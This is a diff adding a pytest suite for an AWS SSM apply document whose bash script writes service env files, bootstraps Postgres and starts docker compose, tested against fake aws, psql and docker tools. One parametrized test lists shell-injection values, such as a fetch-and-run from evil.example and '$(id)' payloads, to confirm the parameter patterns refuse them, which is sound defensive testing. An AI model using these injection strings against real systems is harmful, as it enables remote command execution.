@@ -1,0 +1,439 @@
+"""The host apply document: its declared parameters, and its script run for real under bash.
+
+The script runs against fakes of the tools it calls (`aws`, `psql`, `docker`,
+`cloud-init`) with the host root moved into a temporary directory; the fakes
+record what they were asked, so the tests check files, modes and commands.
+"""
+
+from __future__ import annotations
+
+import json
+import re
+import stat
+import subprocess
+import sys
+from collections.abc import Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from components import bootstrap_sql, catalog, compose, host_apply, rabbitmq
+from components.host_apply import ApplyPlan, DatabaseTarget
+
+PARAMETER = re.compile(r"\{\{\s*([A-Za-z0-9_]+)\s*\}\}")
+SERVICES = catalog.SERVICES
+SHARED = ApplyPlan(SERVICES, (DatabaseTarget("shared", SERVICES),))
+PAYMENTS = catalog.service("payments")
+SPLIT = ApplyPlan(
+    SERVICES,
+    (
+        DatabaseTarget("shared", tuple(s for s in SERVICES if s is not PAYMENTS)),
+        DatabaseTarget("payments", (PAYMENTS,)),
+    ),
+)
+VALUES = {
+    "Environment": "dev",
+    "HostName": "app-1",
+    "Region": "eu-west-1",
+    "SharedDatabaseHost": "shared.abc123.eu-west-1.rds.amazonaws.com",
+    "SharedDatabasePort": "5432",
+    "SharedMasterSecretArn": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:rds!db-1-AbCd",
+    "PaymentsDatabaseHost": "payments.abc123.eu-west-1.rds.amazonaws.com",
+    "PaymentsDatabasePort": "6543",
+    "PaymentsMasterSecretArn": "arn:aws:secretsmanager:eu-west-1:123456789012:secret:rds!db-2-EfGh",
+}
+COMPOSE_YAML = "name: ticketing\nservices: {}\n"
+
+
+def script_text(plan: ApplyPlan) -> str:
+    return "\n".join(host_apply.render_apply_document(plan)["mainSteps"][0]["inputs"]["runCommand"])
+
+
+# --- document structure ---------------------------------------------------------------
+
+
+def test_is_a_schema_2_2_command_document_with_one_shell_step() -> None:
+    doc = host_apply.render_apply_document(SHARED)
+    assert doc["schemaVersion"] == "2.2"
+    [step] = doc["mainSteps"]
+    assert step["action"] == "aws:runShellScript"
+    assert step["precondition"] == {"StringEquals": ["platformType", "Linux"]}
+    assert all(isinstance(line, str) for line in step["inputs"]["runCommand"])
+    json.dumps(doc)  # the component stores it as JSON
+
+
+@pytest.mark.parametrize("plan", [SHARED, SPLIT], ids=["shared", "dedicated-payments-db"])
+def test_every_parameter_used_is_declared_and_every_declared_one_used(plan: ApplyPlan) -> None:
+    doc = host_apply.render_apply_document(plan)
+    used = set(PARAMETER.findall(json.dumps(doc["mainSteps"])))
+    assert used == set(doc["parameters"])
+    # No other {{ }} construct (e.g. {{ssm:...}}) that SSM would try to resolve.
+    assert script_text(plan).count("{{") == len(PARAMETER.findall(script_text(plan)))
+
+
+def test_declares_path_region_database_and_secret_parameters() -> None:
+    assert set(host_apply.render_apply_document(SPLIT)["parameters"]) == set(VALUES)
+
+
+def test_parameter_patterns_admit_real_values() -> None:
+    params = host_apply.render_apply_document(SPLIT)["parameters"]
+    for name, value in VALUES.items():
+        assert re.fullmatch(params[name]["allowedPattern"], value), name
+        assert params[name]["type"] == "String"
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("Environment", "dev'; curl evil.example | sh; '"),
+        ("HostName", "app-1/../../x"),
+        ("Region", "eu-west-1 && id"),
+        ("SharedDatabaseHost", "db.example.com' ; id ; '"),
+        ("SharedDatabasePort", "5432; id"),
+        ("SharedMasterSecretArn", "arn:aws:secretsmanager:eu-west-1:123456789012:secret:x'$(id)"),
+    ],
+)
+def test_parameter_patterns_refuse_shell_injection(name: str, value: str) -> None:
+    params = host_apply.render_apply_document(SHARED)["parameters"]
+    assert not re.fullmatch(params[name]["allowedPattern"], value)
+
+
+def test_document_holds_no_secret() -> None:
+    text = script_text(SPLIT)
+    # Secrets are only ever read from the AWS CLI into variables, never written literally.
+    for match in re.finditer(r"\b(PGPASSWORD|\w+_DB_PASSWORD|MASTER)=(.*)", text):
+        assert match.group(2).startswith("$("), match.group(0)
+    assert "set -x" not in text
+    assert not re.search(r"echo .*PASSWORD", text)
+
+
+def test_uses_naming_paths_for_host_and_services() -> None:
+    text = script_text(SHARED)
+    assert "by_path '/ticketing/{{ Environment }}/hosts/{{ HostName }}'" in text
+    for service in SERVICES:
+        assert f"by_path '/ticketing/{{{{ Environment }}}}/services/{service.name}'" in text
+
+
+# --- packing large parameters --------------------------------------------------------
+
+
+def test_pack_round_trips_and_is_deterministic() -> None:
+    text = "services:\n  x: {}\n" * 50
+    packed = host_apply.pack_parameter(text)
+    assert host_apply.unpack_parameter(packed) == text
+    assert host_apply.pack_parameter(text) == packed
+
+
+def test_packed_compose_of_a_full_host_fits_a_standard_parameter() -> None:
+    plan = compose.HostPlan(
+        name="app-1",
+        region="eu-west-1",
+        services=tuple(
+            compose.ServicePlan(
+                s, f"ghcr.io/acme/{s.name}:1.0.0", 18081 + i, f"/ticketing/dev/{s.name}"
+            )
+            for i, s in enumerate(SERVICES)
+        ),
+        web_clients=tuple(
+            compose.WebClientPlan(c, "nginxinc/nginx-unprivileged:1.27.3", 18091 + i, "/t/web")
+            for i, c in enumerate(catalog.WEB_CLIENTS)
+        ),
+        redis_image="redis:7.4.1-alpine",
+        rabbitmq_image="rabbitmq:3.13.7-alpine",
+    )
+    document = compose.to_yaml(compose.render_compose(plan))
+    assert len(document) > 8192  # too big for even an advanced parameter as is
+    assert len(host_apply.pack_parameter(document)) < 4096
+
+
+def test_shell_unpacks_what_python_packs() -> None:
+    text = "héllo\n$$REDIS_PASSWORD\n"
+    out = subprocess.run(
+        [
+            "bash",
+            "-c",
+            "printf '%s' \"$1\" | base64 -d | gunzip",
+            "_",
+            host_apply.pack_parameter(text),
+        ],
+        capture_output=True,
+        text=True,
+        check=True,
+    )
+    assert out.stdout == text
+
+
+# --- plan validation ------------------------------------------------------------------
+
+
+def test_every_postgres_service_needs_a_database_target() -> None:
+    with pytest.raises(ValueError, match="exactly"):
+        ApplyPlan(SERVICES, (DatabaseTarget("shared", SERVICES[:2]),))
+
+
+def test_a_target_cannot_hold_a_service_from_another_host() -> None:
+    with pytest.raises(ValueError, match="exactly"):
+        ApplyPlan(SERVICES[:1], (DatabaseTarget("shared", SERVICES[:2]),))
+
+
+def test_target_names_become_parameter_names() -> None:
+    target = DatabaseTarget("payments", (PAYMENTS,))
+    assert target.document_parameter("DatabaseHost") == "PaymentsDatabaseHost"
+    assert target.parameter == "bootstrap-sql/payments"
+    with pytest.raises(ValueError):
+        DatabaseTarget("Payments DB", (PAYMENTS,))
+
+
+# --- the script, run under bash against fakes ------------------------------------------
+
+
+FAKE_AWS = """
+import json, os, sys
+args = sys.argv[1:]
+def opt(name):
+    return args[args.index(name) + 1]
+with open(os.environ["FAKE_LOG"], "a") as log:
+    log.write(json.dumps(["aws"] + args) + "\\n")
+if args[:2] == ["ssm", "get-parameters-by-path"]:
+    assert "--with-decryption" in args and "--recursive" in args
+    assert opt("--query") == "Parameters[].[Name,Value]" and opt("--output") == "json"
+    store = json.load(open(os.environ["FAKE_SSM"]))
+    prefix = opt("--path") + "/"
+    print(json.dumps([[n, v] for n, v in store.items() if n.startswith(prefix)]))
+elif args[:2] == ["secretsmanager", "get-secret-value"]:
+    assert opt("--query") == "SecretString" and opt("--output") == "text"
+    print(json.load(open(os.environ["FAKE_SECRETS"]))[opt("--secret-id")])
+else:
+    sys.exit("fake aws: unexpected " + " ".join(args))
+"""
+
+FAKE_PSQL = """
+import json, os, sys
+keys = ("PGUSER", "PGPASSWORD", "PGHOST", "PGPORT", "PGSSLMODE")
+env = {k: v for k, v in os.environ.items() if k in keys or k.endswith("_DB_PASSWORD")}
+with open(os.environ["FAKE_LOG"], "a") as log:
+    log.write(json.dumps(["psql"] + sys.argv[1:] + [env]) + "\\n")
+"""
+
+FAKE_DOCKER = """
+import json, os, sys
+with open(os.environ["FAKE_LOG"], "a") as log:
+    log.write(json.dumps(["docker"] + sys.argv[1:]) + "\\n")
+if "ps" in sys.argv and os.environ.get("FAKE_RUNNING"):
+    print("0123456789ab")
+"""
+
+
+@dataclass
+class Run:
+    result: subprocess.CompletedProcess[str]
+    root: Path
+    calls: list[list[Any]]
+
+    def file(self, path: str) -> Path:
+        return self.root / path.removeprefix(compose.HOST_ROOT + "/")
+
+    def mode(self, path: str) -> int:
+        return stat.S_IMODE(self.file(path).stat().st_mode)
+
+    def by_tool(self, tool: str) -> list[list[Any]]:
+        return [c[1:] for c in self.calls if c[0] == tool]
+
+
+def ssm_store(plan: ApplyPlan, **overrides: str) -> dict[str, str]:
+    host = "/ticketing/dev/hosts/app-1"
+    store = {f"{host}/compose": host_apply.pack_parameter(COMPOSE_YAML)}
+    for target in plan.databases:
+        sql = bootstrap_sql.render_bootstrap_sql(target.grants)
+        store[f"{host}/{target.parameter}"] = host_apply.pack_parameter(sql)
+    for s in SERVICES:
+        path = f"/ticketing/dev/services/{s.name}"
+        store[f"{path}/database-url"] = f"postgresql://{s.role}:db-{s.name}@rds/{s.database}"
+        store[f"{path}/database-password"] = f"db-{s.name}"
+        store[f"{path}/redis-url"] = f"redis://:r-{s.name}@{s.name}-redis:6379/0"
+        store[f"{path}/redis-password"] = f"r-{s.name}"
+        store[f"{path}/amqp-url"] = f"amqp://{s.name}:a-{s.name}@{s.name}-rabbitmq:5672/{s.name}"
+        store[f"{path}/rabbitmq-definitions"] = json.dumps({"users": [{"name": s.name}]})
+    store.update(overrides)
+    return store
+
+
+def run_script(
+    tmp_path: Path, plan: ApplyPlan, store: Mapping[str, str], running: bool = False
+) -> Run:
+    root = tmp_path / "opt-ticketing"
+    fakes = tmp_path / "bin"
+    fakes.mkdir()
+    for name, body in {"aws": FAKE_AWS, "psql": FAKE_PSQL, "docker": FAKE_DOCKER}.items():
+        (fakes / name).write_text(f"#!{sys.executable}\n{body}")
+    (fakes / "cloud-init").write_text("#!/bin/sh\nexit 0\n")
+    for fake in fakes.iterdir():
+        fake.chmod(0o755)
+    secrets = {
+        VALUES["SharedMasterSecretArn"]: json.dumps({"username": "master", "password": "m-pw"}),
+        VALUES["PaymentsMasterSecretArn"]: json.dumps({"username": "pay", "password": "p-pw"}),
+    }
+    (tmp_path / "ssm.json").write_text(json.dumps(store))
+    (tmp_path / "secrets.json").write_text(json.dumps(secrets))
+    # What SSM does before running the script: substitute {{ Parameter }} values.
+    script = PARAMETER.sub(lambda m: VALUES[m.group(1)], script_text(plan))
+    script = script.replace(compose.HOST_ROOT, str(root))
+    (tmp_path / "apply.sh").write_text(script)
+    env = {
+        "PATH": f"{fakes}:/usr/bin:/bin",
+        "FAKE_LOG": str(tmp_path / "calls.log"),
+        "FAKE_SSM": str(tmp_path / "ssm.json"),
+        "FAKE_SECRETS": str(tmp_path / "secrets.json"),
+        **({"FAKE_RUNNING": "1"} if running else {}),
+    }
+    result = subprocess.run(
+        ["bash", str(tmp_path / "apply.sh")], env=env, capture_output=True, text=True, check=False
+    )
+    log = tmp_path / "calls.log"
+    calls = [json.loads(line) for line in log.read_text().splitlines()] if log.exists() else []
+    return Run(result, root, calls)
+
+
+@pytest.fixture(scope="module")
+def applied(tmp_path_factory: pytest.TempPathFactory) -> Run:
+    run = run_script(tmp_path_factory.mktemp("applied"), SHARED, ssm_store(SHARED))
+    assert run.result.returncode == 0, run.result.stderr
+    return run
+
+
+def test_writes_each_service_env_file_owner_only(applied: Run) -> None:
+    assert applied.file(compose.env_file("ticketing")).read_text() == (
+        "DATABASE_URL='postgresql://ticketing_app:db-ticketing@rds/ticketing_db'\n"
+        "REDIS_URL='redis://:r-ticketing@ticketing-redis:6379/0'\n"
+        "AMQP_URL='amqp://ticketing:a-ticketing@ticketing-rabbitmq:5672/ticketing'\n"
+    )
+    assert applied.file(compose.env_file("notifications")).read_text() == (
+        "DATABASE_URL='postgresql://notifications_app:db-notifications@rds/notifications_db'\n"
+        "AMQP_URL='amqp://notifications:a-notifications@notifications-rabbitmq:5672/notifications'\n"
+    )
+    for service in SERVICES:
+        assert applied.mode(compose.env_file(service.name)) == 0o600
+    assert applied.mode(compose.ENV_DIR) == 0o700
+
+
+def test_redis_env_file_holds_only_its_password(applied: Run) -> None:
+    for name in ("ticketing", "payments", "identity"):
+        path = compose.redis_env_file(name)
+        assert applied.file(path).read_text() == f"REDIS_PASSWORD='r-{name}'\n"
+        assert applied.mode(path) == 0o600
+    assert not applied.file(compose.redis_env_file("notifications")).exists()
+
+
+def test_writes_rabbitmq_definitions_and_boot_config(applied: Run) -> None:
+    for name in ("ticketing", "payments", "notifications"):
+        path = compose.rabbitmq_definitions_file(name)
+        assert json.loads(applied.file(path).read_text()) == {"users": [{"name": name}]}
+        assert applied.mode(path) == 0o644
+    assert not applied.file(compose.rabbitmq_definitions_file("identity")).exists()
+    boot = applied.file(compose.RABBITMQ_BOOT_CONFIG_FILE).read_text()
+    assert boot == rabbitmq.BOOT_CONFIG
+
+
+def test_writes_the_unpacked_compose_document(applied: Run) -> None:
+    assert applied.file(compose.COMPOSE_FILE).read_text() == COMPOSE_YAML
+
+
+def test_runs_the_bootstrap_as_master_with_every_service_password(applied: Run) -> None:
+    [call] = applied.by_tool("psql")
+    *args, env = call
+    target = SHARED.databases[0]
+    relocated = str(applied.file(target.sql_file))
+    assert args == list(bootstrap_sql.psql_command(relocated))[1:]
+    assert env == {
+        "PGUSER": "master",
+        "PGPASSWORD": "m-pw",
+        "PGHOST": VALUES["SharedDatabaseHost"],
+        "PGPORT": "5432",
+        "PGSSLMODE": "require",
+        "TICKETING_DB_PASSWORD": "db-ticketing",
+        "PAYMENTS_DB_PASSWORD": "db-payments",
+        "IDENTITY_DB_PASSWORD": "db-identity",
+        "NOTIFICATIONS_DB_PASSWORD": "db-notifications",
+    }
+    assert applied.file(target.sql_file).read_text() == bootstrap_sql.render_bootstrap_sql(
+        target.grants
+    )
+    assert applied.mode(target.sql_file) == 0o600
+
+
+def test_reads_the_master_secret_by_its_arn(applied: Run) -> None:
+    [call] = [c for c in applied.by_tool("aws") if c[0] == "secretsmanager"]
+    assert call[call.index("--secret-id") + 1] == VALUES["SharedMasterSecretArn"]
+
+
+def test_brings_compose_up_last_and_removes_orphans(applied: Run) -> None:
+    last = applied.by_tool("docker")[-1]
+    assert last[:3] == ["compose", "-f", str(applied.file(compose.COMPOSE_FILE))]
+    assert last[3:] == ["up", "-d", "--remove-orphans", "--wait", "--wait-timeout", "600"]
+    assert applied.calls[-1][0] == "docker"
+    psql_at = next(i for i, c in enumerate(applied.calls) if c[0] == "psql")
+    up_at = max(i for i, c in enumerate(applied.calls) if "up" in c)
+    assert psql_at < up_at  # roles and databases exist before the services start
+
+
+def test_nothing_secret_reaches_the_output(applied: Run) -> None:
+    output = applied.result.stdout + applied.result.stderr
+    for secret in ("m-pw", "db-ticketing", "r-payments", "a-notifications"):
+        assert secret not in output
+
+
+def test_a_running_rabbitmq_reimports_its_definitions(tmp_path: Path) -> None:
+    run = run_script(tmp_path, SHARED, ssm_store(SHARED), running=True)
+    assert run.result.returncode == 0, run.result.stderr
+    imports = [c for c in run.by_tool("docker") if "import_definitions" in c]
+    assert [c[c.index("exec") + 2] for c in imports] == [
+        "ticketing-rabbitmq",
+        "payments-rabbitmq",
+        "notifications-rabbitmq",
+    ]
+    assert all(c[-1] == rabbitmq.DEFINITIONS_PATH for c in imports)
+
+
+def test_a_dedicated_database_is_bootstrapped_with_its_own_master(tmp_path: Path) -> None:
+    run = run_script(tmp_path, SPLIT, ssm_store(SPLIT))
+    assert run.result.returncode == 0, run.result.stderr
+    envs = {c[-1]["PGHOST"]: c[-1] for c in run.by_tool("psql")}
+    payments = envs[VALUES["PaymentsDatabaseHost"]]
+    assert (payments["PGUSER"], payments["PGPASSWORD"], payments["PGPORT"]) == (
+        "pay",
+        "p-pw",
+        "6543",
+    )
+    assert [k for k in payments if k.endswith("_DB_PASSWORD")] == ["PAYMENTS_DB_PASSWORD"]
+    shared = envs[VALUES["SharedDatabaseHost"]]
+    assert "PAYMENTS_DB_PASSWORD" not in shared
+    assert shared["PGUSER"] == "master"
+
+
+def test_a_missing_parameter_stops_before_compose_runs(tmp_path: Path) -> None:
+    store = ssm_store(SHARED)
+    del store["/ticketing/dev/services/identity/redis-url"]
+    run = run_script(tmp_path, SHARED, store)
+    assert run.result.returncode != 0
+    assert "missing SSM parameter redis-url" in run.result.stderr
+    assert run.by_tool("docker") == [] and run.by_tool("psql") == []
+    assert not run.file(compose.env_file("identity")).exists()
+
+
+def test_a_value_that_would_break_the_env_file_is_refused(tmp_path: Path) -> None:
+    store = ssm_store(SHARED, **{"/ticketing/dev/services/payments/redis-url": "redis://:it's@x"})
+    run = run_script(tmp_path, SHARED, store)
+    assert run.result.returncode != 0
+    assert "REDIS_URL: a quote or newline cannot go into an env file" in run.result.stderr
+    assert not run.file(compose.env_file("payments")).exists()
+    assert run.by_tool("docker") == []
+
+
+def test_script_is_valid_bash() -> None:
+    for plan in (SHARED, SPLIT):
+        result = subprocess.run(
+            ["bash", "-n"], input=script_text(plan), capture_output=True, text=True, check=False
+        )
+        assert result.returncode == 0, result.stderr
